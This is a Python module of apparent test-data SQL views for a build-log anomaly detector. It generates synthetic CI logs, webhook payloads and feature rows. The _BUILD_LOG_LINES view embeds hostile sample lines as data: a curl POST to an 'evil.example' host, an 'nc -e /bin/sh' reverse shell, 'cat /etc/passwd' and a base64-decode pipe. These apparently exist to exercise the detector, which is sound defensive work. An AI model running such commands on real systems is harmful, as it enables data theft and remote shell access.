"""Build-log views derived from the analytics tables.

Each view is one SQL text that both engines run; ``dialect`` only picks the few
spellings that differ, and Spark builds ``feature_rows`` with one shuffle.  A build is 40 consecutive events, so the size of every
group is bounded whatever the size of the tables.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession, Window
from pyspark.sql import functions as F

from buildlens.functions import rules

WEBHOOK_SECRET = "check-secret"

_SPARK = {
    "lines_of": "listagg({0}, '\\n') WITHIN GROUP (ORDER BY {1})",
    "list_of": "listagg({0}, ',') WITHIN GROUP (ORDER BY {1})",
}
_DUCK = {
    "lines_of": "string_agg({0}, chr(10) ORDER BY {1})",
    "list_of": "string_agg({0}, ',' ORDER BY {1})",
}

_BUILD_LOG_LINES = """
SELECT CAST(floor(event_id / 40) AS BIGINT) AS build_no,
       concat('build-', CAST(floor(event_id / 40) AS BIGINT)) AS build_id,
       concat('org/repo-', CAST(floor(event_id / 40) AS BIGINT) % 10) AS repo_name,
       event_id, event_type, user_id, value, ts,
       CASE event_type
         WHEN 'error'  THEN concat('ERROR: request failed code=', event_id % 7)
         WHEN 'click'  THEN concat('WARNING: deprecated call ', props)
         WHEN 'view'   THEN CASE event_id % 3
              WHEN 0 THEN concat('GET https://registry.npmjs.org/pkg-', user_id, ' 200')
              WHEN 1 THEN concat('fetch HTTP://cdn-', user_id % 6, '.Example.net:8080/a/', event_id)
              ELSE concat('see https://evilgithub.com/x and http://', user_id % 4, '.badhost.io?q=1') END
         WHEN 'signup' THEN concat('Connecting to 45.33.', event_id % 256, '.', user_id % 256, ' via 10.0.0.1')
         ELSE CASE event_id % 6
              WHEN 0 THEN concat('curl -X POST https://collect-', user_id % 5, '.evil.example/up --data x')
              WHEN 1 THEN 'echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= | base64 -d'
              WHEN 2 THEN concat('nc -e /bin/sh 172.16.', user_id % 256, '.9; cat /etc/passwd; eval $(id)')
              WHEN 3 THEN concat('  ', props, ' [2024-01-02 03:04:05] v1.2.', event_id % 9, ' sha 0xfe', user_id, ' ')
              WHEN 4 THEN ''
              ELSE concat('Compiling src/file', event_id % 9, '.ts ok') END
       END AS line
FROM {events}
"""

_BUILD_LOGS = """
SELECT build_no, build_id, repo_name, concat('branch-', build_no % 3) AS branch, min(ts) AS created_at, max(ts) AS finished_at,
       max(value) * 4 AS duration_seconds, count(DISTINCT event_type) AS step_count, count(*) AS log_line_count,
       CAST(sum(CASE WHEN event_type = 'error' THEN 1 ELSE 0 END) AS BIGINT) AS error_count,
       {lines_of(line, event_id)} AS raw_logs
FROM {build_log_lines} GROUP BY build_no, build_id, repo_name
"""

_BUILD_RESULTS = """
SELECT event_id AS id, concat('build-', CAST(floor(event_id / 40) AS BIGINT)) AS build_id,
       ts AS created_at, event_type = 'error' AS is_anomaly, 0.25 - value / 200 AS anomaly_score,
       CASE WHEN event_type = 'error' THEN -1 ELSE 1 END AS prediction,
       greatest(0.0, least(1.0, 0.5 - (0.25 - value / 200))) AS confidence, '1.0.0' AS model_version
FROM {events}
"""

_FEATURE_ROWS = """
SELECT concat('build-', o_orderkey) AS build_id, max(o_totalprice) / 400 AS duration_seconds,
       count(l_orderkey) * 300 AS log_line_count, max(coalesce(l_quantity, 0)) * 2 AS char_density,
       CAST(sum(CASE WHEN l_linenumber % 2 = 0 THEN 10 ELSE 0 END) AS BIGINT) AS error_count,
       CAST(sum(CASE WHEN l_linenumber % 2 = 1 THEN 15 ELSE 0 END) AS BIGINT) AS warning_count,
       count(DISTINCT l_suppkey) AS step_count, count(DISTINCT l_partkey) * 90 AS unique_templates,
       max(coalesce(l_tax, 0)) * 100 AS template_entropy,
       CAST(sum(CASE WHEN l_returnflag = 'R' AND l_discount > 0.09 THEN 1 ELSE 0 END) AS BIGINT) AS suspicious_pattern_count,
       CAST(sum(CASE WHEN l_returnflag = 'A' AND l_discount > 0.09 THEN 1 ELSE 0 END) AS BIGINT) AS external_ip_count,
       CAST(sum(CASE WHEN l_quantity > 48 THEN 6 ELSE 0 END) AS BIGINT) AS external_url_count,
       CAST(sum(CASE WHEN l_discount < 0.005 THEN 3 ELSE 0 END) AS BIGINT) AS base64_pattern_count,
       CASE WHEN max(o_orderpriority) LIKE '1%' THEN 'anomaly' ELSE 'normal' END AS label,
       max(o_orderdate) AS created_at
FROM {orders} LEFT JOIN {lineitem} ON l_orderkey = o_orderkey GROUP BY o_orderkey
"""

_DOC_LOGS = """
SELECT concat('doc-', d.doc_id) AS build_id, d.source AS repo_name, d.lang AS branch, d.text AS raw_logs,
       CASE WHEN l.toxic = 1 THEN 'toxic' ELSE 'normal' END AS label
FROM {documents} d LEFT JOIN {labels} l ON l.doc_id = d.doc_id
"""

# Logs with step markers: sign-ups open a step; every seventh build has none.
_MARKED_LOGS = """
SELECT build_no, build_id, repo_name, min(ts) AS created_at, max(ts) AS finished_at, max(value) * 4 AS duration_seconds,
       {lines_of(step_line, event_id)} AS raw_logs
FROM (SELECT *, CASE WHEN event_type <> 'signup' OR build_no % 7 = 0 THEN line
        ELSE CASE event_id % 4
          WHEN 0 THEN '##[group]checkout'
          WHEN 1 THEN concat('=== Step: ', CASE user_id % 3 WHEN 0 THEN 'run_tests' WHEN 1 THEN 'deploy' ELSE 'lint' END, ' ===')
          WHEN 2 THEN 'Running install_dependencies...'
          ELSE '  ❯ build_artifact' END END AS step_line
      FROM {build_log_lines}) m
GROUP BY build_no, build_id, repo_name
"""
# The same with lines left out of every third build: input of the features over steps.
_STEP_LOGS = _MARKED_LOGS.replace("{build_log_lines}) m", "{build_log_lines} WHERE build_no % 3 <> 1 OR event_id % 5 <> build_no % 4) m")

# One log file per build and event type, as a run's unpacked log archive holds them.
_LOG_FILES = """
SELECT build_id AS run_id, concat(event_type, '.txt') AS file_name,
       CASE event_type WHEN 'view' THEN 1 WHEN 'error' THEN 2 WHEN 'click' THEN 3 WHEN 'signup' THEN 4 ELSE 5 END AS file_no,
       {lines_of(line, event_id)} AS content
FROM {build_log_lines} GROUP BY build_id, event_type
"""

# One job per build and event type; sign-up jobs report no steps at all.
_BUILD_JOBS = """
SELECT build_no, build_id, event_type AS job_name, event_id, ts, event_id % 11 AS number,
       concat('step-', event_id) AS step_name,
       CASE WHEN event_id % 5 = 0 THEN 'queued' ELSE 'completed' END AS status,
       CASE WHEN event_type = 'error' THEN 'failure' ELSE 'success' END AS conclusion
FROM {build_log_lines}
"""

# Webhook deliveries, one per build: eight payload shapes, among them a broken
# and a non-object one.
_DELIVERY_PARTS = """
SELECT b.build_no, b.created_at, b.repo_name, b.duration_seconds,
       concat(replace(substring(CAST(b.created_at AS VARCHAR(40)), 1, 19), ' ', 'T')) AS started,
       concat(replace(substring(CAST(b.finished_at AS VARCHAR(40)), 1, 19), ' ', 'T')) AS finished,
       lpad(CAST(b.build_no * 7919 % 1000000 AS VARCHAR(6)), 6, '0') AS micros,
       replace(replace(replace(b.raw_logs, chr(92), concat(chr(92), chr(92))), '"', concat(chr(92), '"')), chr(10), concat(chr(92), 'n')) AS logs,
       md5(b.build_id) AS sha, j.jobs
FROM {build_logs} b JOIN (
  SELECT build_no, concat('[', {list_of(job, job_name)}, ']') AS jobs FROM (
    SELECT build_no, job_name, concat('{"name":"', job_name, '","steps":',
        CASE WHEN job_name = 'signup' THEN 'null' ELSE concat('[', {list_of(step, event_id)}, ']') END, '}') AS job
    FROM (SELECT build_no, job_name, event_id, concat('{"name":"', step_name, '","status":"', status,
              '","conclusion":"', conclusion, '","number":', number, '}') AS step FROM {build_jobs}) s
    GROUP BY build_no, job_name) t GROUP BY build_no) j ON j.build_no = b.build_no
"""

_DELIVERIES = """
SELECT build_no AS delivery_id, created_at AS received_at,
       CASE WHEN build_no % 8 IN (0, 2, 4, 6) THEN 'github' WHEN build_no % 8 = 1 THEN 'gitlab' ELSE 'unknown' END AS provider,
       CASE build_no % 8
       WHEN 0 THEN concat('{"_meta":{"request_id":"req-', build_no, '","provider":"github","mongo_id":"m', build_no, '"},"action":"completed","workflow_run":{"id":', build_no,
            ',"name":"CI Pipeline","head_branch":"main","head_sha":"', sha, '","status":"completed","conclusion":"success","run_started_at":"', started, '.', micros,
            'Z","created_at":"', started, 'Z","updated_at":"', finished, '.', micros, 'Z"},"repository":{"full_name":"', repo_name, '","name":"', substring(repo_name, 5, 20),
            '","owner":{"login":"org"}},"_enriched":{"raw_logs":"', logs, '","duration_seconds":', CAST(floor(duration_seconds) AS BIGINT), ',"steps":[{"name":"checkout"},{"name":"run_tests"}]},"jobs":', jobs, '}')
       WHEN 1 THEN concat('{"object_kind":"pipeline","object_attributes":{"id":', build_no, ',"status":"',
            CASE WHEN build_no % 3 = 0 THEN 'running' ELSE 'success' END, '","ref":"main","sha":"', sha, '","duration":', CAST(floor(duration_seconds) AS BIGINT) % 200,
            ',"created_at":"', started, 'Z","updated_at":"', finished, 'Z"},"project":{"id":7,"path_with_namespace":"', repo_name, '"},"_enriched":{"log_content":"', logs, '"}}')
       WHEN 2 THEN concat('{"_meta":{"request_id":"req-', build_no, '"},"action":"completed","workflow_run":{"id":', build_no, ',"status":"completed","run_started_at":"', started, 'Z","updated_at":"', finished,
            'Z","head_branch":""},"repository":{"full_name":"', repo_name, '"},"_extended":{"raw_logs":"","label":"normal","branch":"dev","steps":[{"name":"checkout","started_at":"', started, '.', micros,
            '","finished_at":"', finished, '.5","log_lines":["', replace(logs, concat(chr(92), 'n'), '","'), '"]},{"name":"run_tests","started_at":"', started, '","finished_at":"', finished, '","log_lines":["one","two 2"]}]}}')
       WHEN 3 THEN concat('{"build_id":"custom-', build_no, '","_enriched":{"raw_logs":"', logs, '","repository":"', repo_name, '"}}')
       WHEN 4 THEN concat('{"action":"requested","workflow_run":{"id":', build_no, ',"status":"in_progress","run_started_at":"', replace(started, 'T', ' '), '","updated_at":"', replace(finished, 'T', ' '),
            '"},"repository":{"full_name":"', repo_name, '"},"_enriched":{"raw_logs":"only one line","steps":[{"name":"deploy","log_lines":["', replace(logs, concat(chr(92), 'n'), '","'), '"]}]}}')
       WHEN 5 THEN concat('{"run_id":', build_no, ',"repository":"', repo_name, '"}')
       WHEN 6 THEN concat('{"action":"completed","workflow_run":{"id":', build_no)
       ELSE concat('[', build_no, ']') END AS body
FROM {delivery_parts}
"""

# Real multi-line documents (without times and steps) and build logs together: the input of the text operators.
_ALL_LOGS = """
SELECT build_id, repo_name, raw_logs, CAST(0.0 AS DOUBLE) AS duration_seconds, CAST(0 AS BIGINT) AS step_count FROM {doc_logs}
UNION ALL SELECT build_id, repo_name, raw_logs, CAST(duration_seconds AS DOUBLE), step_count FROM {build_logs}
"""

_URL_TEXTS = """
SELECT build_id, raw_logs FROM {all_logs}
UNION ALL SELECT concat('page-', page_id) AS build_id, concat('open ', url, ' ', html) AS raw_logs FROM {pages}
"""

# Feature rows with a given score, so that what follows the model can be checked apart from it.
_SCORED_ROWS = """
SELECT *, (400.0 - duration_seconds) / 2000.0 AS anomaly_score,
       CASE WHEN duration_seconds > 400.0 THEN -1 ELSE 1 END AS prediction
FROM {feature_rows}
"""

_FEATURE_ROWS_MISSING = """
SELECT build_id, CASE WHEN step_count = 3 THEN NULL ELSE duration_seconds END AS duration_seconds,
       CASE WHEN template_entropy > 6.5 THEN NULL ELSE char_density END AS char_density,
       CASE WHEN warning_count = 30 THEN NULL ELSE error_count END AS error_count, label
FROM {feature_rows}
"""
_FEATURE_ROWS_GAPS = "SELECT build_id, label, " + ", ".join(
    f"CASE WHEN (duration_seconds * 100 + {i}) % {i + 5} < 1 THEN NULL ELSE CAST({n} AS DOUBLE) END AS {n}"
    for i, n in enumerate(rules.FEATURE_NAMES)) + " FROM {feature_rows}"

# Feature messages: complete, without build id, without any id, broken, not an object.
_FEATURE_MESSAGES = """
SELECT event_id, CASE event_id % 5
  WHEN 0 THEN concat('{"_meta":{"request_id":"r-', event_id, '"},"features":{"build_id":"b-', event_id, '","duration_seconds":', event_id, ',"error_count":', user_id, '}}')
  WHEN 1 THEN concat('{"_meta":{"request_id":"r-', event_id, '"},"features":{"duration_seconds":', event_id, '}}')
  WHEN 2 THEN concat('{"features":{"log_line_count":', event_id, ',"extra":[1,2]}}')
  WHEN 3 THEN concat('{"_meta":{"request_id":"r-', event_id)
  ELSE concat('"', event_id, '"') END AS value
FROM {events}
"""

# Start and end texts in the formats that occur, valid and not.
_RUN_TIMES = """
SELECT event_id, CASE event_id % 9
    WHEN 0 THEN concat(replace(t, ' ', 'T'), 'Z') WHEN 1 THEN replace(t, ' ', 'T') WHEN 2 THEN t
    WHEN 3 THEN concat(replace(t, ' ', 'T'), '.250000Z') WHEN 4 THEN concat(replace(t, ' ', 'T'), '+02:00')
    WHEN 5 THEN '' WHEN 6 THEN t WHEN 7 THEN 'yesterday' ELSE concat(replace(t, ' ', 'T'), 'Z') END AS started,
  CASE event_id % 9
    WHEN 0 THEN concat(replace(u, ' ', 'T'), 'Z') WHEN 1 THEN replace(u, ' ', 'T') WHEN 2 THEN u
    WHEN 3 THEN concat(replace(u, ' ', 'T'), '.125000Z') WHEN 4 THEN concat(replace(u, ' ', 'T'), 'Z')
    WHEN 5 THEN u WHEN 6 THEN replace(u, ' ', 'T') WHEN 7 THEN u ELSE concat(replace(t, ' ', 'T'), 'Z') END AS finished,
  CASE WHEN event_id % 4 = 0 THEN '' ELSE replace(t, ' ', 'T') END AS created,
  CAST(CASE WHEN event_id % 3 = 0 THEN 0 ELSE floor(value) END AS DOUBLE) AS reported
FROM (SELECT event_id, value, substring(CAST(ts AS VARCHAR(40)), 1, 19) AS t,
             substring(CAST(ts + INTERVAL '90' SECOND AS VARCHAR(40)), 1, 19) AS u FROM {events}) e
"""

VIEWS = {
    "build_log_lines": _BUILD_LOG_LINES,
    "build_logs": _BUILD_LOGS,
    "build_results": _BUILD_RESULTS,
    "feature_rows": _FEATURE_ROWS,
    "doc_logs": _DOC_LOGS,
    "marked_logs": _MARKED_LOGS,
    "step_logs": _STEP_LOGS,
    "log_files": _LOG_FILES,
    "build_jobs": _BUILD_JOBS,
    "delivery_parts": _DELIVERY_PARTS,
    "deliveries": _DELIVERIES,
    "all_logs": _ALL_LOGS,
    "url_texts": _URL_TEXTS,
    "scored_rows": _SCORED_ROWS,
    "feature_rows_missing": _FEATURE_ROWS_MISSING,
    "feature_rows_gaps": _FEATURE_ROWS_GAPS,
    "feature_messages": _FEATURE_MESSAGES,
    "run_times": _RUN_TIMES,
}
TABLES = ["events", "orders", "lineitem", "documents", "labels", "pages"]


def _aggregates(sql: str, dialect: dict[str, str]) -> str:
    for name, spelling in dialect.items():
        while (at := sql.find("{" + name + "(")) >= 0:
            end = sql.index(")}", at)
            args = sql[at + len(name) + 2:end].split(", ")
            sql = sql[:at] + spelling.format(*args) + sql[end + 2:]
    return sql


def _uses(sql: str) -> list[str]:
    return [n for n in [*VIEWS, *TABLES] if "{" + n + "}" in sql]


#: Orders and items together that one task of the feature rows gets.
FEATURE_TASK_ROWS = 1_000_000


def feature_rows(orders: DataFrame, lineitem: DataFrame, task_rows: int = FEATURE_TASK_ROWS) -> DataFrame:
    """The rows of the view ``feature_rows``, with one shuffle of narrow rows.

    Orders and items go to the task of their order key together.  There the first item of
    every part and supplier of an order is marked, so that plain sums count the distinct ones,
    and an order that is stored several times multiplies what its items add, as a join would.
    """
    key = F.col("o_orderkey")
    heads = orders.select(
        key, F.lit(1).alias("copies"), F.col("o_totalprice").alias("price"), F.col("o_orderdate").alias("day"),
        # The largest priority begins with 1: none is above, one is there.
        F.when(F.col("o_orderpriority") >= "2", 2).when(F.col("o_orderpriority") >= "1", 1).alias("priority"))

    def hits(condition: str, points: int):
        return F.when(F.expr(condition), points).otherwise(0)

    items = lineitem.filter("l_orderkey IS NOT NULL").select(
        F.col("l_orderkey").alias("o_orderkey"), F.lit(1).alias("items"), F.col("l_partkey").alias("part"), F.col("l_suppkey").alias("supplier"),
        F.expr("coalesce(l_quantity, 0)").alias("quantity"), F.expr("coalesce(l_tax, 0)").alias("tax"),
        hits("l_linenumber % 2 = 0", 10).alias("errors"), hits("l_linenumber % 2 = 1", 15).alias("warnings"),
        hits("l_returnflag = 'R' AND l_discount > 0.09", 1).alias("commands"),
        hits("l_returnflag = 'A' AND l_discount > 0.09", 1).alias("ips"),
        hits("l_quantity > 48", 6).alias("urls"), hits("l_discount < 0.005", 3).alias("base64"))
    total = orders.count() + lineitem.count()
    rows = heads.unionByName(items, allowMissingColumns=True)
    if total <= task_rows:
        rows = rows.repartition("o_orderkey")  # few rows: adaptive execution may join tasks
    else:
        rows = rows.repartition(max(int(orders.sparkSession.conf.get("spark.sql.shuffle.partitions")), -(-total // task_rows)), "o_orderkey")
    for name in ("part", "supplier"):
        before = F.lag(name).over(Window.partitionBy("o_orderkey").orderBy(name))
        rows = rows.withColumn(f"new_{name}", F.when(F.col(name).isNotNull() & ~F.col(name).eqNullSafe(before), 1))
    summed = rows.groupBy("o_orderkey").agg(
        F.sum("copies").alias("copies"), F.max("price").alias("price"), F.max("priority").alias("priority"), F.max("day").alias("day"),
        F.max("quantity").alias("quantity"), F.max("tax").alias("tax"), F.count("new_part").alias("parts"), F.count("new_supplier").alias("suppliers"),
        *[(F.coalesce(F.sum(c), F.lit(0)) * F.sum("copies")).alias(c) for c in ("items", "errors", "warnings", "commands", "ips", "urls", "base64")])
    summed = summed.filter("copies > 0")
    # Few rows keep the order of their keys: sums of doubles over them, and trees that depend on their last digit, then repeat.
    return (summed.sortWithinPartitions("o_orderkey") if total <= task_rows else summed).select(
        F.expr("concat('build-', o_orderkey)").alias("build_id"), F.expr("price / 400").alias("duration_seconds"),
        F.expr("items * 300").alias("log_line_count"), F.expr("coalesce(quantity, 0) * 2").alias("char_density"),
        F.col("errors").alias("error_count"), F.col("warnings").alias("warning_count"), F.col("suppliers").alias("step_count"),
        F.expr("parts * 90").alias("unique_templates"), F.expr("coalesce(tax, 0) * 100").alias("template_entropy"),
        F.col("commands").alias("suspicious_pattern_count"), F.col("ips").alias("external_ip_count"),
        F.col("urls").alias("external_url_count"), F.col("base64").alias("base64_pattern_count"),
        F.expr("CASE WHEN priority = 1 THEN 'anomaly' ELSE 'normal' END").alias("label"), F.col("day").alias("created_at"))


def view(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    """A table or derived view as a DataFrame."""
    if name in TABLES:
        return _spread(spark.read.parquet(f"{sf_dir}/{name}.parquet"))
    if name == "feature_rows":
        return feature_rows(view(spark, sf_dir, "orders"), view(spark, sf_dir, "lineitem"))
    sql = _aggregates(VIEWS[name], _SPARK)
    for used in _uses(sql):
        temp = f"buildlens_{used}"
        view(spark, sf_dir, used).createOrReplaceTempView(temp)
        sql = sql.replace("{" + used + "}", temp)
    return spark.sql(sql)


def _spread(table: DataFrame) -> DataFrame:
    """Deal the rows of a table with fewer splits than cores to all of them.

    Text work costs far more than moving a small table once; a large table has
    more splits than cores and is read in place.
    """
    cores = table.sparkSession.sparkContext.defaultParallelism
    return table if table.rdd.getNumPartitions() >= cores else table.repartition(cores)


def with_views(*names: str) -> str:
    """``WITH`` clause that defines the named views (and what they use) for the check engine."""
    order: list[str] = []

    def visit(name: str) -> None:
        if name in TABLES or name in order:
            return
        for used in _uses(VIEWS[name]):
            visit(used)
        order.append(name)

    for name in names:
        visit(name)
    parts = []
    for name in order:
        sql = _aggregates(VIEWS[name], _DUCK)
        for used in _uses(sql):
            sql = sql.replace("{" + used + "}", used)
        parts.append(f"{name} AS ({sql.strip()})")
    return "WITH " + ",\n".join(parts) + "\n"
